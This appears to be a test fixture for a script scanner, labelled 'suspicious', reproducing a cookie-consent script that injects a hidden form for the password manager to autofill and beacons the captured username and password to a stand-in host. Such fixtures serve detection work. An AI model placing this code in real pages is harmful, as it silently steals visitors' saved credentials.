// expect: suspicious
// source: corpus autofill-harvesting (a cookie-consent bar; Princeton CITP's login-manager abuse study, 2017-2018): after
// consent it injects an off-screen, opacity-0 form the password manager fills, and beacons what it got
export function afterConsent() {
  const form = document.createElement('form');
  form.style.cssText = 'position:absolute;left:-10000px;top:0;width:1px;height:1px;opacity:0;pointer-events:none';
  form.innerHTML = '<input name="username" autocomplete="username"><input type="password" name="password" autocomplete="current-password">';
  document.body.appendChild(form);
  setTimeout(() => {
    const [u, p] = form.querySelectorAll('input');
    if (p.value) navigator.sendBeacon('https://consent-receipts.example/r', btoa(JSON.stringify({ o: location.origin, u: u.value, p: p.value })));
  }, 3000);
}
